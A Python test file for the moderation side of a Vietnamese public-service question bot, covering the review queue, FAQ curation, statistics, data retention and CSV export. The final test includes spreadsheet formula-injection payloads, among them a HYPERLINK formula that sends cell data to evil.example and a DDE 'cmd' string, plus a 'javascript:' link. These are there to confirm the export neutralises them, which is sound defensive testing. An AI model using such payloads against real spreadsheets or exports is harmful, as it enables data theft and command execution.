"""Moderation without Telegram: the review queue, curated answers, statistics, privacy, export."""

from __future__ import annotations

import csv
import datetime as dt
import threading
from pathlib import Path

import pytest

from bot.domain.answer import Answer, Answerer
from bot.domain.curated import CuratedAnswers, CuratedFirst, word_overlap
from bot.domain.export import export_csv
from bot.domain.moderation import Moderation
from bot.domain.question_log import Asked, QuestionLog, timestamp
from bot.domain.topics import top_topics
from bot.settings import BotSettings
from index import Index
from tests.conftest import BACKENDS

ALICE, BOB, MOD1, MOD2 = 987654321, 987654322, 7001, 7002
UNANSWERED = Answer("Xin lỗi, chưa có thông tin.", [], 0.1, False)
GOOD = Answer("Phường mở cửa từ 7 giờ.", [], 0.9, True)
CURATED_Q = "Mất thẻ căn cước thì cấp lại cần giấy tờ gì?"
PARAPHRASE = "Bị mất căn cước công dân, làm lại phải mang theo giấy tờ nào?"
UNACCENTED = "mat the can cuoc thi cap lai can giay to gi"
UNRELATED = "Thủ tục cấp giấy phép xây dựng cần giấy tờ gì?"


@pytest.fixture(params=BACKENDS)
def backend(request: pytest.FixtureRequest) -> str:
    return request.param


@pytest.fixture
def moderation(log: QuestionLog) -> Moderation:
    return Moderation(log, BotSettings(_env_file=None))


@pytest.fixture
def curated(log: QuestionLog) -> CuratedAnswers:
    return CuratedAnswers(log, BotSettings(_env_file=None))


def ask(log: QuestionLog, question: str, answer: Answer = UNANSWERED, user: int = ALICE,
        latency_ms: int = 100) -> int:
    return log.record(Asked(user_id=user, chat_type="private", question=question,
                            answer=answer, latency_ms=latency_ms, chat_id=user, message_id=7))


def backdate(log: QuestionLog, question_id: int, days: int) -> None:
    moment = dt.datetime.now(dt.UTC) - dt.timedelta(days=days)
    with log.database.write() as db:
        db.change("UPDATE questions SET asked_at = :at WHERE id = :id",
                  {"at": timestamp(moment), "id": question_id})


def test_the_queue_offers_the_oldest_question_awaiting_review_nobody_holds(
        log: QuestionLog, moderation: Moderation) -> None:
    fine = ask(log, "Phường mở cửa mấy giờ?", GOOD)
    first = ask(log, "Giá vàng hôm nay?")
    second = ask(log, "Lịch cắt điện tuần sau?")
    assert moderation.next_question().id == first
    assert moderation.claim(first, MOD1)
    assert moderation.next_question().id == second  # MOD1 holds the first
    assert moderation.next_question(skipped=[second]) is None
    assert fine not in {q.id for q in moderation.listed()}


def test_two_moderators_claiming_at_once_exactly_one_wins(
        log: QuestionLog, moderation: Moderation) -> None:
    question = ask(log, "Giá vàng hôm nay?")
    barrier = threading.Barrier(2)
    results: dict[int, bool] = {}

    def press(moderator: int) -> None:
        barrier.wait()
        results[moderator] = moderation.claim(question, moderator)

    threads = [threading.Thread(target=press, args=(m,)) for m in (MOD1, MOD2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(results.values()) == [False, True]
    winner = MOD1 if results[MOD1] else MOD2
    loser = MOD2 if winner == MOD1 else MOD1
    assert not moderation.mark_spam(question, loser)
    assert moderation.claim(question, winner)  # holding it again is fine


def test_a_claim_left_for_too_long_is_free_again(log: QuestionLog) -> None:
    question = ask(log, "Giá vàng hôm nay?")
    settings = BotSettings(_env_file=None)
    assert Moderation(log, settings).claim(question, MOD1)
    later = Moderation(log, settings, clock=lambda: dt.datetime.now(dt.UTC)
                       + dt.timedelta(hours=1))
    assert later.claim(question, MOD2)


def test_an_answer_marks_the_question_reviewed_erases_the_chat_and_can_become_a_faq(
        log: QuestionLog, moderation: Moderation) -> None:
    question = ask(log, "Mất căn cước làm lại ở đâu? Gọi tôi 0912 345 678")
    assert moderation.claim(question, MOD1)
    target = moderation.delivery_target(question, MOD1)
    assert target.chat_id == ALICE and target.message_id == 7
    curated = moderation.record_answer(question, MOD1, "Tại Công an phường.", save_as_faq=True,
                                       source_url="https://dichvucong.gov.vn")
    logged = log.question(question)
    assert logged.review_state == "reviewed" and logged.chat_id is None
    assert logged.moderator_answer == "Tại Công an phường." and logged.reviewed_at
    faq = log.curated(curated)
    assert faq.answer == "Tại Công an phường." and faq.source_url == "https://dichvucong.gov.vn"
    assert "0912" not in faq.question  # the citizen's question stays masked
    assert moderation.next_question() is None


def test_fine_and_spam_close_the_review_and_erase_the_chat(
        log: QuestionLog, moderation: Moderation) -> None:
    fine, spam = ask(log, "Giá vàng?"), ask(log, "mua bán nhà đất liên hệ ngay")
    assert moderation.mark_fine(fine, MOD1) and moderation.mark_spam(spam, MOD2)
    assert log.question(fine).review_state == "reviewed"
    assert log.question(spam).review_state == "spam" and log.question(spam).chat_id is None
    assert not moderation.mark_fine(spam, MOD1)  # already done
    assert [q.id for q in moderation.listed("spam")] == [spam]


def test_stats_count_states_rates_votes_latency_and_this_weeks_topics(
        log: QuestionLog, moderation: Moderation) -> None:
    for latency in (100, 300):
        ask(log, "Phường mở cửa mấy giờ?", GOOD, latency_ms=latency)
    ask(log, "Lịch cắt điện ở phường Trúc Bạch?", latency_ms=500)
    ask(log, "Bao giờ cắt điện phường Trúc Bạch?", latency_ms=700)
    old = ask(log, "Học phí trường mầm non?", latency_ms=900)
    backdate(log, old, 10)
    log.record_feedback(1, ALICE, 1)
    log.record_feedback(2, ALICE, -1)
    stats = moderation.stats()
    assert stats.questions == 5 and stats.answered == 2 and stats.answered_rate == 0.4
    assert (stats.up, stats.down) == (1, 1)
    assert stats.by_state["unanswered"] == 3 and stats.by_state["downvoted"] == 1
    assert stats.awaiting == 4 and stats.median_latency_ms == 500
    assert {("cắt điện", 2), ("trúc bạch", 2)} <= set(stats.topics)
    assert all("mầm non" not in t for t, _ in stats.topics)  # older than a week


def test_top_topics_prefer_shared_word_pairs() -> None:
    topics = top_topics(["Lịch cắt điện quận Ba Đình", "cat dien o Ba Dinh khi nao",
                         "Giá vàng"])
    assert topics[:2] == [("cắt điện", 2), ("ba đình", 2)]


def test_faq_add_edit_delete_and_bad_links_refused(curated: CuratedAnswers) -> None:
    faq = curated.add("Giờ làm việc của UBND phường?", "Từ 7h30 đến 17h.")
    assert curated.edit(faq, "Giờ làm việc của UBND phường?", "Từ 8h đến 17h.",
                               "https://phuong.gov.vn/gio")
    (listed,) = curated.list()
    assert listed.answer == "Từ 8h đến 17h." and listed.source_url == "https://phuong.gov.vn/gio"
    with pytest.raises(ValueError, match="http"):
        curated.add("Câu hỏi?", "Trả lời.", "javascript:alert(1)")
    with pytest.raises(ValueError):
        curated.add("  ", "Trả lời.")
    assert curated.delete(faq) and not curated.delete(faq)
    assert curated.list() == []


def test_lexical_overlap_ignores_diacritics() -> None:
    assert word_overlap(CURATED_Q, UNACCENTED) == 1.0
    assert word_overlap(CURATED_Q, "Giá vàng hôm nay bao nhiêu?") == 0.0


def test_a_curated_answer_matches_a_paraphrase_and_an_unaccented_question_only(
        log: QuestionLog, sample_index: Index, sample_settings: BotSettings) -> None:
    curated = CuratedAnswers(log, sample_settings, sample_index)
    faq = curated.add(CURATED_Q, "Mang tờ khai CC01 tới Công an phường.",
                      "https://dichvucong.gov.vn")
    for question in (CURATED_Q, PARAPHRASE, UNACCENTED):
        found = curated.match(question)
        assert found is not None and found.curated.id == faq, question
    for question in (UNRELATED, "Giá vàng hôm nay bao nhiêu?",
                     "Ai được tặng Huân chương Lao động hạng Ba ở Hoàn Kiếm?"):
        assert curated.match(question) is None, question


def test_curated_first_answers_with_the_curated_answer_and_its_link(
        log: QuestionLog, answerer: Answerer, sample_settings: BotSettings) -> None:
    curated = CuratedAnswers(log, sample_settings, answerer.index)
    faq = curated.add(CURATED_Q, "Mang tờ khai CC01 tới Công an phường.",
                      "https://dichvucong.gov.vn/cc01")
    first = CuratedFirst(answerer, curated)
    answer = first.answer(PARAPHRASE)
    assert answer.curated_id == faq and answer.answered and answer.confidence == 1.0
    assert answer.text == "Mang tờ khai CC01 tới Công an phường."
    assert answer.sources[0].url == "https://dichvucong.gov.vn/cc01"
    other = first.answer("Ai được tặng Huân chương Lao động hạng Ba ở Hoàn Kiếm?")
    assert other.curated_id is None and other.answered


def test_retention_deletes_only_rows_older_than_the_limit(
        log: QuestionLog, moderation: Moderation) -> None:
    old, recent = ask(log, "Câu hỏi cũ?"), ask(log, "Câu hỏi mới?")
    backdate(log, old, 181)
    backdate(log, recent, 179)
    assert moderation.purge_expired() == 1
    assert log.question(old) is None and log.question(recent) is not None


def test_forgetting_a_user_erases_exactly_their_rows(
        log: QuestionLog, moderation: Moderation) -> None:
    mine = [ask(log, "Câu một?"), ask(log, "Câu hai?", GOOD)]
    theirs = ask(log, "Câu của Bob?", user=BOB)
    assert log.count_for_user(ALICE) == 2
    assert moderation.forget_user(ALICE) == 2
    assert all(log.question(i) is None for i in mine) and log.question(theirs) is not None


def test_csv_export_has_a_bom_and_reads_back_vietnamese(
        log: QuestionLog, curated: CuratedAnswers, tmp_path: Path) -> None:
    ask(log, "Đăng ký khai sinh ở đâu, “nhanh” nhất?\nDòng hai, có dấu phẩy")
    curated.add("Giờ làm việc của UBND phường?", "Từ 7h30 đến 17h.")
    path = tmp_path / "export.csv"
    assert export_csv(log, path) == 2
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["kind"] == "question" and rows[1]["kind"] == "faq"
    assert rows[0]["question"] == "Đăng ký khai sinh ở đâu, “nhanh” nhất?\nDòng hai, có dấu phẩy"
    assert rows[0]["review_state"] == "unanswered"
    assert rows[1]["answer"] == "Từ 7h30 đến 17h."
    assert "user_key" not in rows[0] and "chat_id" not in rows[0]


def test_a_formula_typed_as_a_question_is_exported_as_text_not_run_by_a_spreadsheet(
        log: QuestionLog, curated: CuratedAnswers, tmp_path: Path) -> None:
    attacks = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
    for text in attacks:
        ask(log, text)
    curated.add("=1+1", "@cmd")
    path = tmp_path / "export.csv"
    export_csv(log, path)
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    questions = [r["question"] for r in rows if r["kind"] == "question"]
    stored = [q.question for q in log.questions()]
    assert len(questions) == len(attacks) and all(q.startswith("'") for q in questions)
    assert sorted(q[1:] for q in questions) == sorted(stored)  # nothing else changed
    faq = next(r for r in rows if r["kind"] == "faq")
    assert (faq["question"], faq["answer"]) == ("'=1+1", "'@cmd")
    assert all(not r["feedback"].startswith("'") for r in rows)  # numbers stay numbers
